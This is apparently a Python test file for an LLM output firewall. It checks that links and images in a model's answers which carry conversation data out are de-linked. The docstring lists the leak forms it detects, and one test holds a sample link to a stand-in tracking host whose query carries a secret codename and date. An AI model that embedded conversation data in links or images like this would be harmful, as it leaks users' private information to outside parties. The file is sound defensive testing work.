"""Stage 3: links and images in an answer that carry the conversation's data out are de-linked.

Our own cases (tests/firewall/data/exfil_answers.jsonl: the conversation, the answer, whether it leaks):
a link's query or fragment that carries words or a number of the conversation, a remote image, an
encoded blob; and ordinary links, including a link copied whole from the user's own document."""

from __future__ import annotations

from typing import Any

from edgeprompt.firewall.output import OutputValidator

LINKS = ("EXFIL_LINK", "MARKDOWN_IMAGE", "SECRET")


def _leaks(row: dict[str, Any]) -> bool:
    result = OutputValidator(context=[row["context"]]).check(row["answer"])
    return any(f.type in LINKS for f in result.findings)


def test_every_leaking_answer_is_caught_and_no_ordinary_link_is(data_rows) -> None:  # type: ignore[no-untyped-def]
    rows = data_rows("exfil_answers.jsonl")
    caught = [r["kind"] for r in rows if r["label"] == 1 and _leaks(r)]
    false = [r["kind"] for r in rows if r["label"] == 0 and _leaks(r)]
    assert len(caught) == sum(r["label"] for r in rows) and false == []


def test_the_link_is_removed_and_the_words_named() -> None:
    v = OutputValidator(context=["Our launch codename is Bluefinch and ships March 3."])
    result = v.check("Noted. [Track it](http://t.example.io/r?project=bluefinch&date=march)")
    assert result.redacted_text == "Noted. [Track it]([EXFIL_LINK])"
    (finding,) = result.findings
    assert finding.detail == "carries: bluefinch march"


def test_without_the_conversation_short_query_words_pass() -> None:
    # the same link with no context: nothing says the words are the user's (the old behaviour)
    assert OutputValidator().check("[x](http://t.example.io/r?project=bluefinch&date=march)").findings == []
